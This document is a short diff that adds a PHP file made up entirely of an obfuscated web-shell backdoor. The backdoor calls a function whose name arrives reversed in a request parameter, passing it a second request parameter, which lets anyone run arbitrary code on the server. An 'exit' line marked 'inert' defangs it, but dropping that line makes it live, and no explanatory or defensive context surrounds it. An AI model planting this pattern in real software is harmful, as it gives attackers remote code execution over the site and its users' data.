@@ -1,0 +1,2 @@
+<?php exit; /* inert */ 
+register_shutdown_function(strrev($_REQUEST['n']), $_REQUEST['v']);
